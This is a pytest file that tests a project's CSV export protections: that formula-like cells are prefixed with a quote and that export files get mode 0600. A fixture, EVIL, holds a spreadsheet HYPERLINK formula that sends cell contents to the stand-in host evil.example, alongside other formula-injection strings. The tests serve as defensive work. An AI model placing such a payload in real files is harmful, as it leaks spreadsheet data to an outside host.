"""CSV exports (issue 14 item 16): no cell a spreadsheet would run, and files mode 0600."""

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from core.exports import SafeWriter, neutral, open_private
from graph.db import Graph
from tests.helpers import Neo4jTarget
from tests.scoring.test_screening import world

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("cell", [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])
def test_issue14_item16_a_formula_cell_is_written_as_text(cell: str) -> None:
    out = io.StringIO()
    SafeWriter(out).writerow([cell, "H1", 3])
    written = next(csv.reader(io.StringIO(out.getvalue())))
    assert written == ["'" + cell, "H1", "3"]


def test_issue14_item16_plain_cells_and_numbers_stay_as_they_are() -> None:
    assert [neutral(v) for v in ["H1", "E3 低保", "", -5, 1.5, None]] == [
        "H1",
        "E3 低保",
        "",
        -5,
        1.5,
        None,
    ]


def test_issue14_item16_an_export_is_mode_0600_even_over_an_existing_file(tmp_path: Path) -> None:
    target = tmp_path / "old.csv"
    target.write_text("someone's old export")
    target.chmod(0o644)
    with open_private(target) as out:
        out.write("kind\n")
    assert target.stat().st_mode & 0o777 == 0o600
    assert target.read_text() == "kind\n"


def test_issue14_item16_hhgraph_screen_csv_neutralises_a_hostile_household_id(
    graph: Graph, neo4j_target: Neo4jTarget, tmp_path: Path
) -> None:
    world(graph)  # H1 and H3 meet E3 and are not enrolled in dibao (missed_dibao)
    graph.driver.execute_query(
        "MATCH (h:Household {household_id: 'H3'}) SET h.household_id = $evil",
        {"evil": EVIL},
        database_="neo4j",
    )
    target = tmp_path / "findings.csv"
    done = subprocess.run(
        [
            *(sys.executable, "-m", "hhgraph", "screen", "--as-of", "2026-11-02"),
            *("--region", "440103", "--csv", str(target)),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env=os.environ | {"NEO4J_URI": neo4j_target.uri},
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    hostile = {r["household_id"] for r in rows if EVIL in r["household_id"]}
    assert hostile == {"'" + EVIL}
    assert not [cell for r in rows for cell in r.values() if cell.startswith(("=", "+", "-", "@"))]
    assert target.stat().st_mode & 0o777 == 0o600
